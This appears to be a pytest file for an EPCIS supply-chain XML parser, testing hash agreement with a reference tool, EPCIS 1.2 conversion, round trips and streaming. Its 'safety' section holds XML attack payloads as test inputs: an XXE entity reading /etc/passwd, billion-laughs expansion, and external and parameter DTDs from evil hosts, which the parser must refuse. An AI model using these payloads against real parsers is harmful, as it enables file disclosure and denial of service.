"""EPCIS XML binding: reference hashes, safety, EPCIS 1.2, round trip, streaming."""

from __future__ import annotations

import hashlib
import io
import logging
import os
import re
import warnings
from pathlib import Path
from typing import Any

import pytest

from mics.errors import InvalidInput
from mics.trace.event_hash import document_events, document_hashes, document_prehashes, prehash
from mics.trace.xml_binding import iter_xml_events, parse_xml, to_xml

SHARED = Path(os.environ.get("MICS_SHARED", str(Path(__file__).resolve().parents[3] / "shared")))
EXAMPLES = ("epcis-hash-examples", "tests", "examples")
EX = "https://ns.example.com/epcis/"
XSI_TYPE = re.compile(
    r"\{http://www\.w3\.org/2001/XMLSchema-instance\}type=xsd:"
    r"(?:integer|int|long|double|decimal|float|boolean|string|dateTime|date|anyURI)"
)


XMLNS = re.compile(r'xmlns:([A-Za-z_][\w.-]*)="([^"]*)"')


def cbv_document(xml_text: str) -> str:
    """An XML document rewritten as CBV 2.0 §8.9 reads it, for the reference to hash.

    Where MICS follows CBV 2.0 rather than the reference: the reference keeps XML CURIE
    values (``ext1:x`` with ``xmlns:ext1`` declared) as written, while CBV 2.0 expands every
    CURIE (as the reference's own JSON-LD path does); and it writes the master-data namespace
    as the XML declared it, while MICS uses the EPCIS 2.0 context's ``urn:epcglobal:cbv:mda:``
    in both syntaxes. The rewrite writes those values and that namespace out in full.
    """
    text = xml_text
    if "<cbvmda:" in xml_text:  # only where the document uses it
        text = text.replace('"urn:epcglobal:cbv:mda"', '"urn:epcglobal:cbv:mda:"')
    for prefix, namespace in XMLNS.findall(xml_text):
        if prefix not in ("gs1", "cbv", "xsi", "xsd", "epcis"):
            curie = re.compile(rf'(="|>\s*){re.escape(prefix)}:(?!/)')
            text = curie.sub(r"\g<1>" + namespace.replace("\\", "\\\\"), text)
    return text


def _names(*parts: str) -> list[str]:
    folder = SHARED.joinpath("standards", *parts)
    if not folder.exists():
        return ["(absent)"]
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*.xml"))


def _ni(text: str) -> str:
    return f"ni:///sha-256;{hashlib.sha256(text.encode()).hexdigest()}?ver=CBV2.0"


@pytest.mark.parametrize("name", _names(*EXAMPLES))
def test_xml_example_matches_expected_hashes_and_prehashes(shared: Any, name: str) -> None:
    path = shared.path(*EXAMPLES, name)
    # the reference's SensorDataExamples.xml puts <ilmd> before <sensorElementList>, which
    # the XSD's TransformationEventType does not allow (capture refuses it): hashed anyway
    doc = parse_xml(path.read_bytes(), check_order=False)
    hashes = path.with_suffix(".hashes").read_text().splitlines()
    pre = path.with_suffix(".prehashes")
    expected = pre.read_text().splitlines() if pre.exists() else []
    fresh = {
        i: line for i, (line, h) in enumerate(zip(expected, hashes, strict=False)) if _ni(line) == h
    }
    text = path.read_text(encoding="utf-8")
    if cbv_document(text) != text:
        # Where MICS follows CBV 2.0 rather than the reference (see cbv_document), the
        # expected pre-hashes are the reference's own of the document as CBV 2.0 reads it.
        fresh = dict(enumerate(reference_prehashes_xml(text)))
        hashes = [_ni(line) for line in fresh.values()]
    assert document_hashes(doc) == hashes
    got = document_prehashes(doc)
    assert {i: got[i] for i in fresh} == fresh


@pytest.mark.parametrize("name", _names(*EXAMPLES))
def test_xml_example_hashes_like_its_jsonld_twin(shared: Any, name: str) -> None:
    twin = shared.path(*EXAMPLES, name).with_suffix(".jsonld")
    if not twin.exists():
        pytest.skip(f"{name} has no .jsonld twin")
    import json

    from_json = json.loads(twin.read_text(encoding="utf-8"))
    assert document_hashes(parse_xml(twin.with_suffix(".xml").read_bytes())) == document_hashes(
        from_json
    )


def reference_prehashes_xml(text: str) -> list[str]:
    from epcis_event_hash_generator import hash_generator, xml_to_py

    logging.disable(logging.CRITICAL)
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            events = xml_to_py.event_list_from_epcis_document_str(cbv_document(text))
            prehashes = hash_generator.derive_prehashes_from_events(events)
    except Exception as error:
        pytest.skip(f"epcis-event-hash-generator 1.9.3 cannot process it: {error!r}")
    finally:
        logging.disable(logging.NOTSET)
    # Documented difference: xsi:type on an extension types its value (as JSON does); the
    # reference hashes the attribute itself.
    return [XSI_TYPE.sub("", line) for line in prehashes]


@pytest.mark.parametrize("name", _names("gs1-epcis", "XML"))
def test_gs1_xml_example_matches_reference(shared: Any, name: str) -> None:
    path = shared.path("gs1-epcis", "XML", name)
    doc = parse_xml(path.read_bytes())
    ours = [prehash(e, doc["@context"]) for e in document_events(doc)]
    theirs = reference_prehashes_xml(path.read_text(encoding="utf-8"))
    if len(theirs) != len(ours):
        pytest.skip(f"the reference read {len(theirs)} of {len(ours)} events")
    assert ours == theirs


@pytest.mark.parametrize("name", _names(*EXAMPLES) + _names("gs1-epcis", "XML"))
def test_to_xml_round_trip_keeps_hashes(shared: Any, name: str) -> None:
    parts = (
        EXAMPLES
        if (SHARED / "standards" / Path(*EXAMPLES) / name).exists()
        else ("gs1-epcis", "XML")
    )
    # read lax (the reference's SensorDataExamples.xml breaks the XSD's order); what MICS
    # writes must be in order: read back strictly
    doc = parse_xml(shared.path(*parts, name).read_bytes(), check_order=False)
    again = parse_xml(to_xml(doc))
    assert document_hashes(again) == document_hashes(doc)
    assert len(document_events(again)) == len(document_events(doc))


# -- EPCIS 1.2 and the JSON-LD shape (no public data needed)

EPCIS_12 = b"""<?xml version="1.0" encoding="UTF-8"?>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:1" xmlns:example="https://ns.example.com/epcis/"
    schemaVersion="1.2" creationDate="2019-05-27T10:01:00.000+02:00">
  <EPCISBody><EventList>
    <ObjectEvent>
      <eventTime>2019-10-21T12:58:56.591+02:00</eventTime>
      <eventTimeZoneOffset>+02:00</eventTimeZoneOffset>
      <baseExtension><eventID>urn:uuid:1</eventID></baseExtension>
      <epcList/>
      <action>ADD</action>
      <bizStep>urn:epcglobal:cbv:bizstep:commissioning</bizStep>
      <readPoint><id>urn:epc:id:sgln:4054739.00001.0</id></readPoint>
      <extension>
        <quantityList><quantityElement>
          <epcClass>urn:epc:class:lgtin:4054739.099914.20160711</epcClass>
          <quantity>600</quantity><uom>KGM</uom>
        </quantityElement></quantityList>
        <sourceList>
          <source type="urn:epcglobal:cbv:sdt:owning_party">urn:epc:id:pgln:4054739.00000</source>
        </sourceList>
        <ilmd><example:bestBefore>2019-10-21</example:bestBefore></ilmd>
      </extension>
      <example:myField>7</example:myField>
    </ObjectEvent>
    <extension><TransformationEvent>
      <eventTime>2019-10-21T12:58:56Z</eventTime>
      <eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
      <inputEPCList><epc>urn:epc:id:sgtin:4012345.011111.1</epc></inputEPCList>
      <outputEPCList><epc>urn:epc:id:sgtin:4012345.011111.2</epc></outputEPCList>
    </TransformationEvent></extension>
  </EventList></EPCISBody>
</epcis:EPCISDocument>"""

EPCIS_20_EVENT = {
    "type": "ObjectEvent",
    "eventTime": "2019-10-21T12:58:56.591+02:00",
    "eventTimeZoneOffset": "+02:00",
    "eventID": "urn:uuid:1",
    "epcList": [],
    "action": "ADD",
    "bizStep": "commissioning",
    "readPoint": {"id": "urn:epc:id:sgln:4054739.00001.0"},
    "quantityList": [
        {"epcClass": "urn:epc:class:lgtin:4054739.099914.20160711", "quantity": 600, "uom": "KGM"}
    ],
    "sourceList": [{"type": "owning_party", "source": "urn:epc:id:pgln:4054739.00000"}],
    "ilmd": {"example:bestBefore": "2019-10-21"},
    "example:myField": "7",
}


def test_epcis_12_document_is_read_as_epcis_20_json_ld() -> None:
    doc = parse_xml(EPCIS_12)
    first, second = document_events(doc)
    assert first == EPCIS_20_EVENT | {"bizStep": "urn:epcglobal:cbv:bizstep:commissioning"} | {
        "sourceList": [
            {
                "type": "urn:epcglobal:cbv:sdt:owning_party",
                "source": "urn:epc:id:pgln:4054739.00000",
            }
        ]
    }
    assert second["type"] == "TransformationEvent"
    assert second["outputEPCList"] == ["urn:epc:id:sgtin:4012345.011111.2"]
    assert {"example": EX} in doc["@context"]
    context = [{"example": EX}]
    assert (
        document_hashes(doc)[0]
        == document_hashes({"@context": context, "epcisBody": {"eventList": [EPCIS_20_EVENT]}})[0]
    )


def test_epcis_12_hash_matches_reference() -> None:
    doc = parse_xml(EPCIS_12)
    ours = [prehash(e, doc["@context"]) for e in document_events(doc)]
    assert ours == reference_prehashes_xml(EPCIS_12.decode())


def test_sensor_reports_get_json_types() -> None:
    xml = b"""<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>
      <ObjectEvent><eventTime>2020-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
      <action>OBSERVE</action><sensorElementList><sensorElement>
        <sensorMetadata time="2020-01-01T00:00:00Z"/>
        <sensorReport type="gs1:Temperature" value="26.50" uom="CEL" booleanValue="true"/>
      </sensorElement></sensorElementList></ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"""
    (event,) = document_events(parse_xml(xml))
    report = event["sensorElementList"][0]["sensorReport"]
    assert report == [
        {"type": "gs1:Temperature", "value": 26.5, "uom": "CEL", "booleanValue": True}
    ]
    assert "booleanValue=truehex" not in prehash(event)
    assert "type=https://gs1.org/voc/Temperature" in prehash(event)


def test_query_document_keeps_query_shape() -> None:
    xml = b"""<q:EPCISQueryDocument xmlns:q="urn:epcglobal:epcis-query:xsd:2" schemaVersion="2.0">
      <EPCISBody><q:QueryResults><queryName>SimpleEventQuery</queryName><resultsBody><EventList>
      <ObjectEvent><eventTime>2020-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
      <action>OBSERVE</action></ObjectEvent></EventList></resultsBody></q:QueryResults></EPCISBody>
      </q:EPCISQueryDocument>"""
    doc = parse_xml(xml)
    assert doc["type"] == "EPCISQueryDocument"
    results = doc["epcisBody"]["queryResults"]
    assert results["queryName"] == "SimpleEventQuery"
    assert [e["action"] for e in results["resultsBody"]["eventList"]] == ["OBSERVE"]
    assert b"<epcisq:QueryResults>" in to_xml(doc)
    assert document_hashes(parse_xml(to_xml(doc))) == document_hashes(doc)


# -- safety


@pytest.mark.parametrize(
    "attack",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b"<r>&b;</r>",
        b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p">%p;]><r/>',
    ],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused(attack: bytes) -> None:
    with pytest.raises(InvalidInput, match="DTD") as error:
        parse_xml(attack)
    assert error.value.field == "xml"


def test_malformed_xml_names_line_and_column() -> None:
    with pytest.raises(InvalidInput, match=r"line 3, column \d+") as error:
        parse_xml(
            b"<epcis:EPCISDocument xmlns:epcis='urn:epcglobal:epcis:xsd:2'>\n<EPCISBody>\n</Oops>"
        )
    assert error.value.value.startswith("line 3")
    with pytest.raises(InvalidInput, match="line 1, column 0"):
        parse_xml(b"")


def test_bare_doctype_is_accepted() -> None:
    xml = b'<?xml version="1.0"?>\n<!DOCTYPE project>\n<epcis:EPCISDocument xmlns:epcis="x"/>'
    assert parse_xml(xml)["epcisBody"] == {"eventList": []}


# -- streaming


class CountingStream(io.BytesIO):
    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.consumed = 0

    def read(self, size: int | None = -1) -> bytes:
        chunk = super().read(size)
        self.consumed += len(chunk)
        return chunk


def test_events_stream_before_the_document_is_read() -> None:
    event = (
        "<ObjectEvent><eventTime>2020-01-01T00:00:{s:02d}Z</eventTime>"
        "<eventTimeZoneOffset>+00:00</eventTimeZoneOffset><action>OBSERVE</action>"
        "<ex:n xmlns:ex='https://ex.example/'>{i}</ex:n></ObjectEvent>"
    )
    body = "".join(event.format(s=i % 60, i=i) for i in range(5000))
    root = "<epcis:EPCISDocument xmlns:epcis='urn:epcglobal:epcis:xsd:2'>"
    data = f"{root}<EPCISBody><EventList>{body}"
    data += "</EventList></EPCISBody></epcis:EPCISDocument>"
    stream = CountingStream(data.encode())
    events = iter_xml_events(stream)
    first = next(events)
    assert stream.consumed < len(data) // 2
    assert first["ex:n"] == "0"
    assert first["@context"] == [{"ex": "https://ex.example/"}]
    assert sum(1 for _ in events) == 4999
